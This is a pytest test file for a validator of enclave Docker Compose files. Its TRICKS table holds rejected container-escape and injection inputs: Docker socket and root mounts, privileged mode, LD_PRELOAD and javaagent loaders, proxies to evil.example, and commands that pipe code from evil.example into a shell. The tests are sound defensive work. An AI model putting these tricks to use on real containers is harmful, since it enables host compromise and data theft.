"""What a Docker Compose file of an enclave may hold, and every trick that it must not hold."""

import json
import re
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.attestation.checks import Verdict
from bot.attestation.compose_grammar import compose_problems, environments
from bot.attestation.operator_inputs import environment_check
from bot.config.names import setting_names

DIGEST: Final = "@sha256:" + "ab" * 32
SOCKET: Final = "/var/run/dstack.sock"
IMAGE: Final = f"registry.example:5000/someone/bot:1.2{DIGEST}"
BOT: Final = f"services:\n  bot:\n    image: {IMAGE}\n"
VARIABLES: Final = ("LLM__API_KEY", "LOG__LEVEL", "NOTES_KEY")


def service(*lines: str, more: str = "") -> str:
    """A file with one good service and these lines in it."""
    return BOT + "".join(f"    {line}\n" for line in "\n".join(lines).split("\n")) + more


def problems(text: str, allowed_envs: tuple[str, ...] = VARIABLES) -> list[str]:
    return list(compose_problems(text, allowed_envs))


# What is on the list

ALLOWED: Final = {
    "one image": BOT,
    "a service of one letter": BOT.replace("bot:", "b:", 1),
    "an image of a short name": f"services: {{bot: {{image: 'bot{DIGEST}'}}}}\n",
    "arguments": service("command: [run, --verbose, '--host=0.0.0.0', '--socket=/run/x/y']"),
    "options alone": service("command:", "  - --port=80", "  - --log-level=info"),
    "settings": service("environment:", "  A: b c", '  B: ""', "  C: https://example.org/?a=b"),
    "settings as a list": service("environment:", "  - A=b c", "  - B="),
    "settings of others": service(
        "environment:", "  MODE: fast", "  TOPICS: 'a, b: c'", "  API_URL: https://example.org/?a=b"
    ),
    "a server of tools": service(
        "environment:",
        "  MCP__SERVERS__NOTES_2__TIMEOUT_SECONDS: '5'",
        "  MCP__SERVERS__NOTES__URL: http://notes:8080/mcp",
        "  MCP__SERVERS__NOTES__TOOLS: read,list",
        "  MCP__SERVERS__NOTES__TOKEN: ${LLM__API_KEY}",
        "  STORE__PATH: /var/lib/signal-tee-bot/conversations.db",
        "  ATTESTATION__MODEL_PINS: '{\"v\":1}'",
    ),
    "a secret": service("environment: {LLM__API_KEY: '${LLM__API_KEY}'}"),
    "a secret under another name": service("environment:", "  - NOTES_TOKEN=${LLM__API_KEY}"),
    "volumes": service(
        "volumes: ['kept:/data', 'other:/var/lib/x/y:ro']", more="volumes: {kept: {}, other: {}}\n"
    ),
    "a volume in the long form": service(
        "volumes:",
        "  - type: volume",
        "    source: kept",
        "    target: /mnt/kept",
        "    read_only: true",
        more="volumes:\n  kept:\n",
    ),
    "the guest agent": service("volumes:", f"  - {SOCKET}:{SOCKET}"),
    "the guest agent, read-only": service("volumes:", f"  - {SOCKET}:{SOCKET}:ro"),
    "the guest agent in the long form": service(
        f"volumes: [{{type: bind, source: {SOCKET}, target: {SOCKET},"
        " bind: {create_host_path: false}}]"
    ),
    "fewer rights": service(
        "cap_drop: [ALL]",
        "security_opt: ['no-new-privileges:true']",
        "read_only: true",
        "user: '10001:10001'",
        "network_mode: none",
    ),
    "limits": service(
        "mem_limit: 1g",
        "memswap_limit: 1g",
        "shm_size: 64m",
        "pids_limit: 256",
        "cpus: 0.5",
        "tmpfs: ['/tmp:mode=1777,noexec,nosuid,nodev,size=256m', /run/x]",
    ),
    "a life": service(
        "init: true",
        "restart: on-failure:3",
        "stop_grace_period: 1m30s",
        "stop_signal: SIGINT",
        "healthcheck: {test: [CMD, signal-tee-bot, ready], interval: 60s, retries: 3}",
        "logging: {driver: json-file, options: {max-size: 10m, max-file: '3'}}",
    ),
    "no health check": service("healthcheck: {disable: true}"),
    "several services": service(
        "depends_on: [notes]",
        "networks: [inside]",
        more=f"  notes:\n    image: {IMAGE}\n    expose: ['8080']\n"
        "    depends_on:\n      other: {condition: service_started}\n"
        f"  other: {{image: 'x{DIGEST}', restart: 'no', logging: {{driver: none}}}}\n"
        "networks:\n  inside: {internal: true}\n  outside:\n",
    ),
    "a name and a version": "name: bot\nversion: '3.8'\n" + BOT,
}  # fmt: skip


@pytest.mark.parametrize("name", ALLOWED)
def test_what_is_on_the_list_passes(name: str) -> None:
    assert problems(ALLOWED[name]) == []


def test_the_settings_of_every_service_are_found_in_both_forms() -> None:
    text = service("environment: ['A=b=c', 'B=']")
    text += f"  other:\n    image: {IMAGE}\n    environment: {{C: d}}\n  third:\n    image: x\n"
    assert list(environments(text)) == [
        ("bot", {"A": "b=c", "B": ""}),
        ("other", {"C": "d"}),
        ("third", {}),
    ]


def test_every_setting_of_the_bot_may_be_written_but_a_server_of_tools_as_a_program() -> None:
    refused = {
        name
        for name in setting_names() - {"ATTESTATION__MODEL_PINS"}
        if problems(service(f"environment: {{{name}: x}}"))
    }
    assert refused == {"MCP__SERVERS__NAME__COMMAND"}


# What is not

TRICKS: Final = {
    # files of the machine
    "a folder of the machine": service("volumes: ['/dstack/user_config:/data']"),
    "a folder of the machine, long": service(
        "volumes: [{type: bind, source: /dstack, target: /data}]"
    ),
    "a folder through driver_opts": service(
        "volumes: ['kept:/data']",
        more="volumes:\n  kept:\n    driver_opts: {type: none, o: bind, device: /dstack}\n",
    ),
    "a folder of another machine": service(
        "volumes: ['kept:/data']",
        more="volumes: {kept: {driver: local, driver_opts: {type: nfs, device: '1.2.3.4:/x'}}}\n",
    ),
    "a relative folder": service("volumes: ['./x:/data']"),
    "the folder above": service("volumes: ['../x:/data']"),
    "a home": service("volumes: ['~/x:/data']"),
    "a home alone": service("volumes: ['~:/data']"),
    "/var/run": service("volumes: ['/var/run:/run/machine']"),
    "the folder of the guest agent": service("volumes: ['/var/run/dstack:/run/dstack']"),
    "the guest agent by another path": service(f"volumes: ['/run/dstack.sock:{SOCKET}']"),
    "the guest agent at another place": service(f"volumes: ['{SOCKET}:/tmp/agent.sock']"),
    "the guest agent by a detour": service(f"volumes: ['/var/run/../run/dstack.sock:{SOCKET}']"),
    "the guest agent with two slashes": service(f"volumes: ['/var/run//dstack.sock:{SOCKET}']"),
    "the guest agent for two": service(
        f"volumes: ['{SOCKET}:{SOCKET}']",
        more=f"  b:\n    image: {IMAGE}\n    volumes: ['{SOCKET}:{SOCKET}']\n",
    ),
    "the guest agent as a volume": service(
        f"volumes: [{{type: volume, source: {SOCKET}, target: {SOCKET}}}]"
    ),
    "the old guest agent": service("volumes: ['/var/run/tappd.sock:/var/run/tappd.sock']"),
    "Docker's socket": service("volumes: ['/var/run/docker.sock:/var/run/docker.sock']"),
    "the whole machine": service("volumes: ['/:/srv/machine']"),
    "an external volume": service(
        "volumes: ['kept:/data']", more="volumes:\n  kept: {external: true}\n"
    ),
    "a volume of another name": service(
        "volumes: ['kept:/data']", more="volumes:\n  kept: {name: theirs}\n"
    ),
    "a volume that is not named at the top": service("volumes: ['kept:/data']"),
    "a volume without a name": service("volumes: [/data]"),
    "volumes by an alias": "x: &v ['/dstack:/data']\n" + service("volumes: *v"),
    "volumes of another service": service("volumes_from: [other]"),
    "volumes of another container": service("volumes_from: ['container:x']"),
    "a volume over programs": service("volumes: ['kept:/usr/bin']", more="volumes: {kept: {}}\n"),
    "a volume over the root": service("volumes: ['kept:/']", more="volumes: {kept: {}}\n"),
    "a volume over settings": service(
        "volumes: ['kept:/run/secrets']", more="volumes: {kept: {}}\n"
    ),
    "a volume over a setting": service(
        "volumes: ['kept:/run/secrets/x']", more="volumes: {kept: {}}\n"
    ),
    "a volume by a detour": service("volumes: ['kept:/data/../usr']", more="volumes: {kept: {}}\n"),
    "a volume at two slashes": service("volumes: ['kept:/data//x']", more="volumes: {kept: {}}\n"),
    "a volume with a flag": service("volumes: ['kept:/data:z']", more="volumes: {kept: {}}\n"),
    "a volume that is shared on": service(
        "volumes: ['kept:/data:rw,rshared']", more="volumes: {kept: {}}\n"
    ),
    "a volume without a target": service("volumes: ['kept:']", more="volumes: {kept: {}}\n"),
    "a part of a volume": service(
        "volumes: [{type: volume, source: kept, target: /data, volume: {subpath: '../x'}}]",
        more="volumes: {kept: {}}\n",
    ),
    "a volume of one letter": service("volumes: ['a:/data']", more="volumes: {a: {}}\n"),
    "a volume over what may be code": service(
        "volumes: ['kept:/srv/app']", more="volumes: {kept: {}}\n"
    ),
    "an image as a volume": service("volumes: [{type: image, source: evil, target: /data}]"),
    "a pipe": service("volumes: [{type: npipe, source: kept, target: /data}]"),
    "a cluster's volume": service("volumes: [{type: cluster, source: kept, target: /data}]"),
    "a mount without a type": service(f"volumes: [{{source: {SOCKET}, target: {SOCKET}}}]"),
    "how a mount is passed on": service(
        f"volumes: [{{type: bind, source: {SOCKET}, target: {SOCKET},"
        " bind: {propagation: rshared}}]"
    ),
    "a device": service("devices: [/dev/kvm]"),
    "a device by name": service("devices: ['/dev/vdb:/dev/vdb:rwm']"),
    "device rules": service("device_cgroup_rules: ['a *:* rwm']"),
    "a GPU": service("gpus: all"),
    "temporary files over programs": service("tmpfs: ['/usr/lib']"),
    "temporary files with an unknown option": service("tmpfs: ['/tmp:dev']"),
    "temporary files over settings": service("tmpfs: ['/run/secrets']"),
    "a configuration file": BOT + "configs: {it: {file: /dstack/x}}\n",
    "a configuration in a service": service("configs: [it]"),
    "an external configuration": BOT + "configs: {it: {external: true}}\n",
    "a secret file": BOT + "secrets: {it: {file: /dstack/x}}\n",
    "a secret of the environment": BOT + "secrets: {it: {environment: LLM__API_KEY}}\n",
    "a secret in a service": service("secrets: [it]"),
    "configurations behind a merge": "x: &x {configs: {it: {file: /x}}}\n<<: *x\n" + BOT,
    # the environment
    "a variable that is not let in": service("environment: {A_KEY: '${OTHER_KEY}'}"),
    "a setting from a variable": service("environment: {SIGNAL__URL: '${LOG__LEVEL}'}"),
    "a setting of other case": service("environment: {signal__url: '${LOG__LEVEL}'}"),
    "a loader from a variable": service("environment: {LD_PRELOAD: '${NOTES_KEY}'}"),
    "a variable without braces": service("environment: {LLM__API_KEY: $LLM__API_KEY}"),
    "a variable with a default": service("environment: {LLM__API_KEY: '${LLM__API_KEY:-x}'}"),
    "a variable or nothing": service("environment: {LLM__API_KEY: '${LLM__API_KEY-}'}"),
    "a variable that must be": service("environment: {LLM__API_KEY: '${LLM__API_KEY:?}'}"),
    "another value for a variable": service("environment: {LLM__API_KEY: '${LLM__API_KEY:+x}'}"),
    "a variable in a variable": service("environment: {A_KEY: '${LLM__API_KEY:-${NOTES_KEY}}'}"),
    "a variable in a text": service("environment: {A_KEY: 'x${LLM__API_KEY}'}"),
    "two variables": service("environment: {A_KEY: '${LLM__API_KEY}${NOTES_KEY}'}"),
    "a variable with blanks": service("environment: {A_KEY: '${ LLM__API_KEY }'}"),
    "a doubled dollar sign": service("environment: {A: 'costs $$5'}"),
    "a dollar sign at the end": service("environment: {A: 'costs 5$'}"),
    "an escaped dollar sign": service('environment: {A: "\\x24{LLM__API_KEY}"}'),
    "an escaped dollar sign of Unicode": service('environment: {A: "\\u0024{LLM__API_KEY}"}'),
    "a dollar sign in a key": service("environment: {'${LLM__API_KEY}': x}"),
    "a bare name": service("environment: [SIGNAL__URL]"),
    "a bare name of a secret": service("environment: [LLM__API_KEY]"),
    "a setting without a value": service("environment: {SIGNAL__URL: }"),
    "a setting without a value in lines": service("environment:", "  SIGNAL__URL:"),
    "a setting of nothing": service("environment: {SIGNAL__URL: null}"),
    "a setting that is a truth": service("environment: {ATTESTATION__E2EE: true}"),
    "a setting that is a number": service("environment: {STORE__RETENTION_DAYS: 30}"),
    "a setting that is a list": service("environment: {A: [b]}"),
    "a setting twice": service("environment: ['A=b', 'A=c']"),
    "a setting twice in other case": service("environment: {LOG__LEVEL: info, log__level: debug}"),
    "settings behind a merge": "x: &x {A: b}\n" + service("environment: {<<: *x}"),
    "settings by an alias": "x: &x {A: '${OTHER}'}\n" + service("environment: *x"),
    "settings as a text": service("environment: A=b"),
    "a file of settings": service("env_file: /dstack/.env"),
    "files of settings": service("env_file: [{path: '.env', required: false}]"),
    "a variable in a command": service("command: ['--key=${LLM__API_KEY}']"),
    "a variable as a command": service("command: ['${LLM__API_KEY}']"),
    "a variable in an image": service().replace("bot:1.2", "${NAME:-bot}"),
    "a variable in a volume's name": service(
        "volumes: ['${LLM__API_KEY}:/data']", more="volumes: {kept: {}}\n"
    ),
    "a variable in a volume's folder": service(
        "volumes: ['kept:${LLM__API_KEY}']", more="volumes: {kept: {}}\n"
    ),
    "a variable in a name of the top": BOT + "volumes:\n  kept: {name: '${LLM__API_KEY}'}\n",
    "a variable as the project's name": "name: ${LOG__LEVEL}\n" + BOT,
    "a variable in a limit": service("mem_limit: ${LOG__LEVEL}"),
    "a variable in a user": service("user: ${LOG__LEVEL}"),
    "a variable in a health check": service("healthcheck: {test: [CMD, '${LOG__LEVEL}']}"),
    "a variable in temporary files": service("tmpfs: ['${LOG__LEVEL}']"),
    # variables that turn data into code
    "a library of what people send": service(
        "environment: {LD_PRELOAD: /var/lib/signal-cli/attachments/x}"
    ),
    "an agent of Java": service(
        "environment: {JAVA_TOOL_OPTIONS: '-javaagent:/var/lib/signal-cli/attachments/x'}"
    ),
    "options of a program": service("environment: {SIGNAL_CLI_OPTS: '-javaagent:/data/x'}"),
    "modules of Python": service("environment: {PYTHONPATH: /data}"),
    "a required module": service("environment: {NODE_OPTIONS: '--require /data/x'}"),
    "another home": service("environment: {HOME: /data}"),
    "another path": service("environment: {PATH: '/data/bin:/bin'}"),
    "another path in other case": service("environment: {path: /data/bin}"),
    "settings from a folder": service("environment: {CREDENTIALS_DIRECTORY: /data}"),
    "somebody in between": service("environment: {HTTPS_PROXY: 'http://evil.example'}"),
    "somebody in between for all": service("environment: {all_proxy: 'http://evil.example'}"),
    "other authorities": service("environment: {SSL_CERT_FILE: /data/x}"),
    "a log of keys": service("environment: {SSLKEYLOGFILE: /data/x}"),
    "another guest agent": service("environment: {DSTACK_SIMULATOR_ENDPOINT: 'http://x'}"),
    "a library in a server's environment": service(
        "environment: {MCP__SERVERS__X__ENV__LD_PRELOAD: /data/x}"
    ),
    "a server of tools by a shell": service(
        "environment: {MCP__SERVERS__X__COMMAND: 'sh -c true'}"
    ),
    "a server of tools that is fetched": service(
        "environment: {MCP__SERVERS__X__COMMAND: 'uvx mcp-server-evil'}"
    ),
    "a server of tools in other case": service(
        "environment: {mcp__servers__x__command: 'npx evil'}"
    ),
    "a server of tools by a script": service(
        "environment: {MCP__SERVERS__X__COMMAND: 'run a;b'}"
    ),
    "a server of tools as a program": service(
        "environment: {MCP__SERVERS__X__COMMAND: mcp-notes}"
    ),
    "a server of tools from data": service("environment: {MCP__SERVERS__X__COMMAND: /data/x}"),
    "a server of tools as JSON": service(
        """environment: {MCP__SERVERS__X: '{"command": "sh -c true"}'}"""
    ),
    "servers of tools as JSON": service(
        """environment: {MCP__SERVERS: '{"x": {"command": "sh"}}'}"""
    ),
    "a server of tools with an unknown setting": service(
        "environment: {MCP__SERVERS__X__RUN: x}"
    ),
    "a script of an application": service("environment: {FLASK_APP: /data/x.py}"),
    "a script of a folder by its home": service("environment: {SCRIPT: '~/x.py'}"),
    "a script of the folder above": service("environment: {SCRIPT: ../data/x.py}"),
    "files of a start": service("environment: {ZDOTDIR: /data}"),
    "a file by its address": service("environment: {SOURCE_URL: 'file:///data/x'}"),
    "options of a server": service("environment: {GUNICORN_CMD_ARGS: '--preload'}"),
    "options by another name": service("environment: {SERVER: '--pythonpath=x'}"),
    "a folder of libraries in one word": service("environment: {TCLLIBPATH: lib}"),
    "commands of an editor": service("environment: {VIMINIT: ':!x'}"),
    "a configuration that is fetched": service(
        "environment: {LOGGING_CONFIG: 'https://evil.example/x'}"
    ),
    "somebody in between by another name": service(
        "environment: {HTTP_PROXY_URL: 'http://evil.example'}"
    ),
    "pins in a file": service("environment: {ATTESTATION__MODEL_PINS: /data/pins.json}"),
    # programs
    "an image by its tag": BOT.replace(DIGEST, ""),
    "an image by a short digest": BOT.replace("ab" * 32, "ab" * 31),
    "an image by another digest": BOT.replace("sha256", "sha512"),
    "an image with more behind it": BOT.replace(DIGEST, f"{DIGEST}:latest"),
    "an image by a scheme": BOT.replace("registry", "docker://registry"),
    "an image with a capital": BOT.replace("someone", "Someone"),
    "no image": "services:\n  bot:\n    restart: always\n",
    "a build": service("build: /dstack"),
    "a build beside": service("build: {dockerfile_inline: 'FROM evil'}"),
    "an image that is fetched anew": service("pull_policy: build"),
    "another platform": service("platform: linux/arm64"),
    "an extension": service("extends: {file: /dstack/x.yml, service: base}"),
    "an include": BOT + "include: [/dstack/x.yml]\n",
    "a provider": service("provider: {type: evil}"),
    "models": BOT + "models: {llm: {model: ai/evil}}\n",
    "a model": service("models: [llm]"),
    "a replacement of files": service("develop: {watch: [{action: sync, path: /x, target: /y}]}"),
    "an entry point": service("entrypoint: [run]"),
    "a shell": service("command: [sh, -c, x]"),
    "a shell by its path": service("command: [/bin/bash, -c, x]"),
    "a shell behind an init": service("command: [tini, '--', dash]"),
    "a shell's text": service("command: run --fast"),
    "a script": service("command: [run, 'wget evil.example | sh']"),
    "a script of shell signs": service("command: ['a;b']"),
    "a substitution": service("command: ['`id`']"),
    "an interpreter": service("command: [python3.12, -m, http.server]"),
    "an interpreter by its loader": service("command: [/lib64/ld-linux-x86-64.so.2, x]"),
    "a program that fetches": service("command: [wget, -O, /data/x, evil.example/x]"),
    "a program that installs": service("command: [pip, install, evil]"),
    "a multi-call program": service("command: [busybox, httpd]"),
    "a browser": service("command: [lynx, evil.example]"),
    "a debugger": service("command: [gdb]"),
    "a shell of another name": service("command: [bash5]"),
    "a program behind options": service("command: [--, lynx]"),
    "a program behind a subcommand": service("command: [run, lynx]"),
    "a subcommand behind an option": service("command: [-x, run]"),
    "an argument from a file": service("command: ['@/data/x']"),
    "code in an option": service("command: ['--import=data:text/javascript,%66%28%29']"),
    "code that is fetched by an option": service(
        "command: ['--import=https://evil.example/x']"
    ),
    "a text for an interpreter": service("command: ['--eval=x']"),
    "a module for an interpreter": service("command: [-mhttp.server]"),
    "a package for a runner of packages": service("command: ['--package=evil', '--call=evil']"),
    "a library of data by an option": service("command: ['--require=/data/x.js']"),
    "an agent of Java by an option": service("command: ['-javaagent:/data/x.jar']"),
    "a file before every page": service("command: ['-dauto_prepend_file=http://evil/x']"),
    "a socket outside": service("command: ['--socket=/run/../x']"),
    "a health check with more in it": service(
        "healthcheck: {test: [CMD, {a: b}, signal-tee-bot, ready]}"
    ),
    "a health check by another program": service("healthcheck: {test: [CMD, lynx]}"),
    "a program of a volume": service("command: [/data/x]"),
    "a program of a volume by a relative path": service("command: [data/x]"),
    "a program by a file of the kernel": service("command: [/proc/self/exe, x]"),
    "a word that is a number": service("command: [run, 1]"),
    "a word that is a list": service("command: [run, [x]]"),
    "a health check by a shell": service("healthcheck: {test: [CMD-SHELL, x]}"),
    "a health check as a text": service("healthcheck: {test: curl localhost}"),
    "a health check that fetches": service("healthcheck: {test: [CMD, curl, localhost]}"),
    "an empty health check": service("healthcheck: {test: []}"),
    "a deed after the start": service("post_start: [{command: [x]}]"),
    "a deed before the stop": service("pre_stop: [{command: [x]}]"),
    "a folder to run in": service("working_dir: /data"),
    # rights and reach
    "all rights": service("privileged: true"),
    "more rights": service("cap_add: [SYS_ADMIN]"),
    "a right that stays": service("cap_drop: [all]"),
    "no filter of calls": service("security_opt: ['seccomp=unconfined']"),
    "a filter of calls of the machine": service("security_opt: ['seccomp=/dstack/x.json']"),
    "no profile": service("security_opt: ['apparmor:unconfined']"),
    "new rights": service("security_opt: ['no-new-privileges:false']"),
    "no masked paths": service("security_opt: ['systempaths=unconfined']"),
    "the machine's processes": service("pid: host"),
    "another's processes": service("pid: 'service:other'"),
    "the machine's network": service("network_mode: host"),
    "another's network": service("network_mode: 'container:x'"),
    "the machine's memory": service("ipc: host"),
    "the machine's names": service("uts: host"),
    "the machine's users": service("userns_mode: host"),
    "the machine's groups": service("cgroup: host"),
    "a parent of groups": service("cgroup_parent: /x"),
    "another runtime": service("runtime: evil"),
    "another isolation": service("isolation: none"),
    "Docker's own interface": service("use_api_socket: true"),
    "credentials": service("credential_spec: {file: /dstack/x.json}"),
    "an open port": service("ports: ['8081:8081']"),
    "an open port in the long form": service("ports: [{target: 8081, published: '8081'}]"),
    "other names for addresses": service("extra_hosts: ['api.example:1.2.3.4']"),
    "another server of names": service("dns: ['1.2.3.4']"),
    "links": service("external_links: [x]"),
    "a group": service("group_add: [docker]"),
    "kernel settings": service("sysctls: {net.ipv4.ip_forward: '1'}"),
    "labels that others act on": service("labels: {com.example.update: 'true'}"),
    "files of labels": service("label_file: /dstack/x"),
    "annotations": service("annotations: {a: b}"),
    "logs to somebody": service("logging: {driver: syslog, options: {max-size: 1m}}"),
    "logs to an address": service(
        "logging: {driver: json-file, options: {gelf-address: 'udp://1.2.3.4'}}"
    ),
    "options of logs alone": service("logging: {options: {max-size: 1m}}"),
    "an external network": BOT + "networks: {a: {external: true}}\n",
    "a network of another driver": BOT + "networks: {a: {driver: macvlan}}\n",
    "addresses of a network": BOT + "networks: {a: {ipam: {driver: evil}}}\n",
    "a network of nobody": service("networks: [a]"),
    "a network with addresses": service("networks: {default: {ipv4_address: '1.2.3.4'}}"),
    "a service of nobody": service("depends_on: [other]"),
    "a service of nobody with a condition": service(
        "depends_on: {other: {condition: service_started}}"
    ),
    "an unknown condition": service("depends_on: {bot: {condition: maybe}}"),
    "a deployment": service("deploy: {replicas: 2}"),
    "a profile": service("profiles: [x]"),
    "storage options": service("storage_opt: {size: 1g}"),
    "an unknown restart": service("restart: maybe"),
    "an extension key": "x-a: b\n" + BOT,
    "an extension key in a service": service("x-a: b"),
    # forms
    "no services": "volumes: {kept: {}}\n",
    "an empty list of services": "services: {}\n",
    "services as a list": f"services:\n  - image: {IMAGE}\n",
    "a service of nothing": BOT + "  other:\n",
    "a service as a text": BOT + "  other: image\n",
    "a service by an alias": BOT.replace("bot:", "bot: &b", 1) + "  other: *b\n",
    "a merged service": BOT + "    <<: {privileged: true}\n",
    "a service twice": BOT + f"  bot: {{image: '{IMAGE}', privileged: true}}\n",
    "a name with a dot": BOT.replace("  bot:", "  b.t:"),
    "volumes as a text": service("volumes: a"),
    "a truth as a text": service("read_only: 'true'"),
    "a limit of nothing": service("mem_limit:"),
}  # fmt: skip


def configuration(compose: str, **fields: Any) -> str:
    return json.dumps({"runner": "docker-compose", "docker_compose_file": compose} | fields)


@pytest.mark.parametrize("name", TRICKS)
def test_every_trick_is_refused_with_its_line_and_never_proven(name: str) -> None:
    for fields in ({}, {"allowed_envs": ["LLM__API_KEY", "LOG__LEVEL"]}):
        check = environment_check(configuration(TRICKS[name], **fields), is_running=True)
        assert check.verdict is Verdict.FAILED
    found = problems(TRICKS[name])
    assert found
    for problem in found:
        assert re.match(r"line \d+", problem)
        assert problem.isascii()
        assert problem.isprintable()


def test_a_problem_names_the_line_the_key_and_what_is_expected() -> None:
    assert problems(service("privileged: true", "mem_limit: much")) == [
        "line 4, services.bot.privileged: is not on the list of what may stand there",
        "line 5, services.bot.mem_limit: a size such as 512m is expected",
    ]
    [problem] = problems(service("environment:", "  A: b", "  LLM__API_KEY: $LLM__API_KEY"))
    assert problem.startswith("line 6, services.bot.environment.LLM__API_KEY: a dollar sign may")


# Generated files

NAMES: Final = st.from_regex("[a-z][a-z0-9]{2,6}x", fullmatch=True)
WORDS: Final = st.from_regex(
    "--(host|port|transport|verbose)(=[a-z0-9][a-z0-9.:]{0,8})?", fullmatch=True
)
TEXTS: Final = st.text("abcXYZ019 ./:_#{}[],&*!|>@%-+=~'?`", max_size=20)
OTHERS_TEXTS: Final = st.text("abcXYZ019 .:_#{}[],&*!|>@%+='?`", max_size=20)
FOLDERS: Final = st.from_regex("/(data|var/lib|run|mnt)/[a-z]{2,8}", fullmatch=True).filter(
    lambda folder: not folder.startswith("/run/secrets")
)


def quoted(text: str) -> str:
    return json.dumps(text)


def mounts(declared: list[str]) -> st.SearchStrategy[list[str]]:
    if not declared:
        return st.just([])
    modes = st.sampled_from(["", ":ro", ":rw"])
    mount = st.tuples(st.sampled_from(declared), FOLDERS, modes)
    return st.lists(mount.map(lambda parts: f"{parts[0]}:{parts[1]}{parts[2]}"), max_size=3)


@st.composite
def services(draw: st.DrawFn, declared: list[str]) -> list[str]:
    lines = [f"image: {draw(NAMES)}/{draw(NAMES)}{DIGEST}"]
    if words := draw(st.lists(WORDS, max_size=3)):
        lines.append(f"command: [{', '.join(map(quoted, words))}]")
    names = draw(st.lists(st.from_regex("Q[A-Z]{1,4}Q", fullmatch=True), unique=True))
    settings = {f"BOT__{name}": quoted(draw(TEXTS)) for name in names}
    settings |= {name: quoted(draw(OTHERS_TEXTS)) for name in names}
    if draw(st.booleans()):
        settings["LLM__API_KEY"] = "${LLM__API_KEY}"
    if settings:
        lines += ["environment:", *(f"  {name}: {value}" for name, value in settings.items())]
    if mounted := draw(mounts(declared)):
        lines += ["volumes:", *(f"  - {mount}" for mount in mounted)]
    fixed = (
        "read_only: true",
        "init: true",
        "restart: unless-stopped",
        "cap_drop: [ALL]",
        "mem_limit: 512m",
        "pids_limit: 64",
        "tmpfs: [/tmp]",
        "logging: {driver: none}",
        "stop_grace_period: 15s",
    )
    return lines + draw(st.lists(st.sampled_from(fixed), unique=True, max_size=4))


@st.composite
def files(draw: st.DrawFn) -> str:
    declared = draw(st.lists(NAMES, unique=True, max_size=3))
    lines = ["services:"]
    for name in draw(st.lists(NAMES, unique=True, min_size=1, max_size=3)):
        lines += [f"  {name}:", *(f"    {line}" for line in draw(services(declared)))]
    if declared:
        lines += ["volumes:", *(f"  {name}:" for name in declared)]
    return "\n".join(lines) + "\n"


INSERTIONS: Final = tuple(
    trick.removeprefix(BOT)
    for trick in TRICKS.values()
    if trick.startswith(BOT + "    ") and "volumes: {kept" not in trick and "  b:" not in trick
)
"""Lines that may stand in no service, whatever else is in it."""

SPELLINGS: Final = ("/dstack", "/", "./x", "../x", "~/x", "/var/run", "/etc/../dstack", ".", "~")
DOLLARS: Final = ("$A", "${A}", "${A:-b}", "$$", "x$", "${LLM__API_KEY}x", "\\x24{A}", "$(id)")
EXOTIC: Final = (
    "\t",
    "\r",
    "\x85",
    "\u2028",
    "\ufeff",
    "\xa0",
    "\uff04",
    "\u0430",
    "\u202e",
    "\x00",
)


def is_proven(text: str) -> bool:
    fields = {"allowed_envs": ["LLM__API_KEY"]} if "${LLM__API_KEY}" in text else {}
    check = environment_check(configuration(text, **fields), is_running=True)
    return check.verdict is not Verdict.FAILED


@settings(max_examples=40, deadline=None)
@given(files(), st.data())
def test_a_generated_file_passes_and_none_of_its_mutations_does(
    text: str, data: st.DataObject
) -> None:
    assert problems(text) == []
    assert is_proven(text)
    lines = text.splitlines()
    images = [number for number, line in enumerate(lines) if line.startswith("    image:")]
    at = data.draw(st.sampled_from(images), "after line") + 1

    def with_line(line: str) -> str:
        return "\n".join([*lines[:at], *line.rstrip("\n").split("\n"), *lines[at:]]) + "\n"

    unknown = data.draw(st.from_regex("[a-z_]{3,12}x", fullmatch=True), "unknown key")
    mount = data.draw(st.sampled_from(SPELLINGS), "folder")
    dollar = data.draw(st.sampled_from(DOLLARS), "variable")
    mutations = {
        "an unknown key": with_line(f"    {unknown}: x"),
        "an unknown key at the top": f"{unknown}: x\n{text}",
        "a trick": with_line(data.draw(st.sampled_from(INSERTIONS), "trick")),
        "a mount": with_line(f"    volumes: ['{mount}:/data']"),
        "a variable": with_line(f'    stop_signal: "{dollar}"'),
        "a variable in a setting": with_line(f'    environment: {{A: "{dollar}"}}'),
        "a variable in a word": with_line(f'    command: [run, "{dollar}"]'),
    }
    place = data.draw(st.integers(0, len(text) - 1), "place")
    exotic = data.draw(st.sampled_from(EXOTIC), "character")
    mutations["an exotic character"] = text[:place] + exotic + text[place:]
    for name, mutated in mutations.items():
        assert not is_proven(mutated), name
        assert problems(mutated), name
